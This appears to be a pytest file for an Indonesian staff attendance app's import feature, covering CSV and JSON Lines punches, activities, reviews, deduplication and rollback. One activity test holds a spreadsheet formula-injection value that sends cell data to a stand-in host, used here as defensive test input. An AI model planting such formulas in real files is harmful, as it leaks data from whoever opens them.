"""Importing app exports (punches, activities, reviews): the documented formats, all or nothing,
idempotent re-imports, daily summaries and devices, on SQLite and PostgreSQL."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import Engine, func, select
from sqlmodel import Session

import db
from ekinerja import audit, bulk
from ekinerja.access import PermissionDenied, Viewer
from ekinerja.importing import ImportRefused, check_file, import_file
from ekinerja.models import (
    Activity,
    AuditEntry,
    BehaviourReview,
    DailySummary,
    Device,
    ImportBatch,
    Punch,
)
from ekinerja.timeutil import WIB
from tests import factories as f

ADMIN = Viewer("admin-uji", "admin")
DAY = date(2026, 3, 2)  # a Monday, a work day (no holiday rows in the test database)
NIP_A = f.nip(1)
NIP_B = f.nip(2)
PUNCH_HEADER = (
    "source_key,nip,ts,direction,channel,lat,lon,accuracy_m,mock_location,device_id,device_os"
)


def people(engine: Engine) -> dict[str, int]:
    with db.write_session(engine) as s:
        u = f.unit(s, "DISKOMINFO")
        f.office(s, u)
        a = f.employee(s, u, 1)
        b = f.employee(s, u, 2)
        return {"unit": int(u.id or 0), "a": int(a.id or 0), "b": int(b.id or 0)}


def punch_csv(*rows: str, header: str = PUNCH_HEADER, newline: str = "\n") -> bytes:
    return newline.join([header, *rows, ""]).encode()


GOOD_ROWS = (
    f"app-1,{NIP_A},2026-03-02T07:28:13+07:00,in,selfie,-7.62441,111.52063,8,false,hp-a,Android",
    f"app-2,{NIP_A},2026-03-02T16:05:40+07:00,out,selfie,-7.62437,111.52071,12,false,hp-a,Android",
    f"app-3,{NIP_B},2026-03-02T07:45:00+07:00,in,selfie,-7.62450,111.52050,5,0,hp-b,iOS",
)


def run_import(engine: Engine, data: bytes, name: str = "absen.csv", **kw: Any) -> Any:
    with db.write_session(engine) as s:
        return import_file(s, ADMIN, name, data, **kw)


def check(engine: Engine, data: bytes, name: str = "absen.csv", **kw: Any) -> Any:
    with db.read_session(engine) as s:
        return check_file(s, ADMIN, name, data, **kw)


def count(engine: Engine, model: Any) -> int:
    with db.read_session(engine) as s:
        return int(s.execute(select(func.count()).select_from(model)).scalar_one())


def test_csv_punches_are_stored_with_summary_devices_batch_and_audit(engine: Engine) -> None:
    ids = people(engine)
    data = punch_csv(*GOOD_ROWS)
    result = run_import(engine, data)
    assert (result.inserted, result.duplicates, result.rejected) == (3, 0, 0)
    with db.read_session(engine) as s:
        p1 = s.exec(select(Punch).where(Punch.source_key == "app-1")).scalars().one()
        assert p1.ts == datetime(2026, 3, 2, 0, 28, 13, tzinfo=UTC)  # 07:28:13 WIB
        assert p1.work_date == DAY and p1.channel == "selfie" and p1.direction == "in"
        assert (p1.lat, p1.lon, p1.accuracy_m) == (-7.62441, 111.52063, 8.0)
        assert p1.import_batch_id == result.batch_id
        # Schedule 07:30-16:00 (Monday): A is on time, B is 15 minutes late and has no check-out.
        rows = {r.employee_id: r for r in s.exec(select(DailySummary)).scalars()}
        assert rows[ids["a"]].status == "hadir" and rows[ids["a"]].minutes_late == 0
        assert rows[ids["b"]].minutes_late == 15
        devices = {(d.employee_id, d.device_id): d for d in s.exec(select(Device)).scalars()}
        assert set(devices) == {(ids["a"], "hp-a"), (ids["b"], "hp-b")}
        assert devices[(ids["a"], "hp-a")].os == "Android"
        assert devices[(ids["a"], "hp-a")].last_seen == datetime(2026, 3, 2, 9, 5, 40, tzinfo=UTC)
        batch = s.get(ImportBatch, result.batch_id)
        assert batch is not None and batch.kind == "app_punch"
        assert batch.sha256 == __import__("hashlib").sha256(data).hexdigest()
        entry = s.exec(select(AuditEntry).where(AuditEntry.action == "import.run")).scalars().one()
        after = json.loads(entry.after or "{}")
        assert after["sha256"] == batch.sha256 and after["inserted"] == 3
        assert entry.actor == "admin-uji" and after["file_name"] == "absen.csv"
        assert audit.verify(s).ok


def test_json_lines_give_the_same_rows_as_csv(engine: Engine) -> None:
    people(engine)
    lines = [
        {"source_key": "app-1", "nip": NIP_A, "ts": "2026-03-02T00:28:13Z", "direction": "in",
         "channel": "selfie", "lat": -7.62441, "lon": 111.52063, "accuracy_m": 8,
         "mock_location": False, "device_id": "hp-a", "device_os": "Android"},
        {"source_key": "app-3", "nip": NIP_B, "ts": "2026-03-02T07:45:00+07:00",
         "direction": "in", "channel": "wfh", "lat": -7.6, "lon": 111.5, "mock_location": True},
    ]  # fmt: skip
    data = "\n".join(json.dumps(x) for x in lines).encode()
    result = run_import(engine, data, "absen.jsonl")
    assert result.inserted == 2
    with db.read_session(engine) as s:
        rows = {p.source_key: p for p in s.exec(select(Punch)).scalars()}
    assert rows["app-1"].ts == datetime(2026, 3, 2, 0, 28, 13, tzinfo=UTC)
    assert rows["app-3"].mock_location is True and rows["app-3"].channel == "wfh"


def snapshot(engine: Engine) -> tuple[list[Any], list[Any]]:
    with db.read_session(engine) as s:
        punches = s.execute(
            select(Punch.id, Punch.source_key, Punch.ts, Punch.lat).order_by(Punch.id)
        ).all()
        summaries = s.execute(
            select(
                DailySummary.id,
                DailySummary.employee_id,
                DailySummary.status,
                DailySummary.updated_at,
            ).order_by(DailySummary.id)  # fmt: skip
        ).all()
    return list(punches), list(summaries)


def test_reimporting_the_same_file_changes_nothing(engine: Engine) -> None:
    people(engine)
    data = punch_csv(*GOOD_ROWS)
    run_import(engine, data)
    before = snapshot(engine)
    again = run_import(engine, data)
    assert (again.inserted, again.duplicates) == (0, 3)
    assert snapshot(engine) == before
    # The same records in another file (other order, JSON Lines) are duplicates as well.
    reordered = punch_csv(GOOD_ROWS[2], GOOD_ROWS[0])
    assert run_import(engine, reordered, "lagi.csv").duplicates == 2
    assert snapshot(engine) == before


def test_a_failure_half_way_through_the_write_leaves_the_database_unchanged(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    people(engine)
    real = bulk.bulk_insert

    def half_then_fail(connection: Any, table: Any, frame: pd.DataFrame, *a: Any) -> int:
        real(connection, table, frame.iloc[: len(frame) // 2])
        raise RuntimeError("disk penuh")

    monkeypatch.setattr(bulk, "bulk_insert", half_then_fail)
    with pytest.raises(RuntimeError):
        run_import(engine, punch_csv(*GOOD_ROWS))
    for model in (Punch, ImportBatch, AuditEntry, DailySummary, Device):
        assert count(engine, model) == 0, model


def test_one_bad_row_refuses_the_file_and_good_rows_need_an_explicit_second_step(
    engine: Engine,
) -> None:
    people(engine)
    bad = f"app-9,{NIP_A},2026-03-02T07:10:00,in,selfie,-7.6,111.5,5,false,hp-a,Android"
    data = punch_csv(GOOD_ROWS[0], bad, GOOD_ROWS[2])
    with pytest.raises(ImportRefused) as refused:
        run_import(engine, data)
    report = refused.value.check
    assert (report.rows_total, report.good_rows, report.bad_rows) == (3, 2, 1)
    assert report.issues[["line", "column"]].values.tolist() == [[3, "ts"]]
    assert "zona waktu" in report.issues["reason"].iloc[0]
    assert count(engine, Punch) == 0 and count(engine, ImportBatch) == 0
    # The second, explicit step is tied to the file that was checked.
    with pytest.raises(ImportRefused, match="berubah"):
        run_import(engine, data, only_good_rows=True, expected_sha256="0" * 64)
    result = run_import(engine, data, only_good_rows=True, expected_sha256=report.sha256)
    assert (result.inserted, result.rejected) == (2, 1)
    with db.read_session(engine) as s:
        keys = set(s.exec(select(Punch.source_key)).scalars())
        entry = s.exec(select(AuditEntry).where(AuditEntry.action == "import.run")).scalars().one()
    assert keys == {"app-1", "app-3"}
    assert entry.reason == "hanya baris valid"


def test_only_admins_may_import(engine: Engine) -> None:
    people(engine)
    for role in ("hr", "supervisor", "auditor"):
        with pytest.raises(PermissionDenied), db.read_session(engine) as s:
            check_file(s, Viewer("x", role), "a.csv", punch_csv(*GOOD_ROWS))


def test_activities_keep_formula_looking_text_as_written(engine: Engine) -> None:
    ids = people(engine)
    hostile = '=HYPERLINK("http://x.example/?d="&A2,"y")'
    quoted = '"' + hostile.replace('"', '""') + '"'
    data = "\n".join(
        [
            "source_key,nip,work_date,description,minutes,status,approver_nip",
            f"akt-1,{NIP_A},2026-03-02,{quoted},90,disetujui,{NIP_B}",
            f"akt-2,{NIP_A},2026-03-02,+1 rapat,30,,",
        ]
    ).encode()
    assert run_import(engine, data, "aktivitas.csv").inserted == 2
    with db.read_session(engine) as s:
        rows = {a.source_key: a for a in s.exec(select(Activity)).scalars()}
    assert rows["akt-1"].description == hostile
    assert rows["akt-1"].approver_id == ids["b"] and rows["akt-1"].status == "disetujui"
    assert rows["akt-2"].description == "+1 rapat" and rows["akt-2"].status == "diajukan"
    assert rows["akt-2"].work_date == DAY and rows["akt-2"].minutes == 30


REVIEW_HEADER = ("source_key,period,reviewer_nip,reviewee_nip,relation,berorientasi_pelayanan,"
                 "akuntabel,kompeten,harmonis,loyal,adaptif,kolaboratif,comment")  # fmt: skip


def test_reviews_once_per_period_reviewer_and_reviewee(engine: Engine) -> None:
    ids = people(engine)
    data = "\n".join(
        [
            REVIEW_HEADER,
            f"rv-1,2026-02,{NIP_A},{NIP_B},rekan,3,2,2,2,2,2,1,baik",
            f"rv-2,2026-02,{NIP_A},{NIP_B},rekan,1,1,1,1,1,1,1,lagi",
            f"rv-3,2026-02,{NIP_B},{NIP_B},rekan,2,2,2,2,2,2,2,",
            f"rv-4,2026-02,{NIP_B},{NIP_A},rekan,2,2,4,2,2,2,2,",
        ]
    ).encode()
    report = check(engine, data, "review.csv")
    reasons = {(r.line, r.column): r.reason for r in report.issues.itertuples()}
    assert "baris 2" in reasons[(3, "reviewee_nip")]
    assert "orang yang sama" in reasons[(4, "reviewee_nip")]
    assert "1..3" in reasons[(5, "kompeten")]
    assert report.good_rows == 1
    run_import(engine, data, "review.csv", only_good_rows=True)
    with db.read_session(engine) as s:
        stored = s.exec(select(BehaviourReview)).scalars().one()
    assert (stored.reviewer_id, stored.reviewee_id, stored.period) == (ids["a"], ids["b"],
                                                                        date(2026, 2, 1))  # fmt: skip
    # A later file with the same triple under another key is refused against the database.
    again = f"{REVIEW_HEADER}\nrv-9,2026-02,{NIP_A},{NIP_B},rekan,2,2,2,2,2,2,2,".encode()
    assert "basis data" in check(engine, again, "review.csv").issues["reason"].iloc[0]


def test_same_key_with_other_content_is_a_conflict_in_the_file_and_against_the_database(
    engine: Engine,
) -> None:
    people(engine)
    run_import(engine, punch_csv(GOOD_ROWS[0]))
    moved = GOOD_ROWS[0].replace("07:28:13", "07:29:13")
    twin_a = f"app-7,{NIP_A},2026-03-02T08:00:00+07:00,in,selfie,-7.6,111.5,5,false,,"
    twin_b = f"app-7,{NIP_A},2026-03-02T08:30:00+07:00,in,selfie,-7.6,111.5,5,false,,"
    same = GOOD_ROWS[1]
    report = check(engine, punch_csv(moved, twin_a, twin_b, same, same))
    by_line = dict(zip(report.issues["line"], report.issues["reason"], strict=True))
    assert "basis data" in by_line[2]
    assert "baris 4" in by_line[3] and "baris 3" in by_line[4]
    assert (report.good_rows, report.duplicates_in_file, report.bad_rows) == (1, 1, 3)


def test_check_writes_nothing(engine: Engine) -> None:
    people(engine)
    report = check(engine, punch_csv(*GOOD_ROWS))
    assert report.ok and report.good_rows == 3
    assert count(engine, Punch) == 0 and count(engine, ImportBatch) == 0


def test_future_punch_is_refused(engine: Engine) -> None:
    people(engine)
    soon = (datetime.now(UTC) + timedelta(hours=2)).astimezone(WIB).isoformat(timespec="seconds")
    row = f"app-5,{NIP_A},{soon},in,selfie,-7.6,111.5,5,false,,"
    report = check(engine, punch_csv(row))
    assert report.issues["reason"].tolist() == ["waktu di masa depan"]


def _session_count(session: Session, model: Any) -> int:
    return int(session.execute(select(func.count()).select_from(model)).scalar_one())
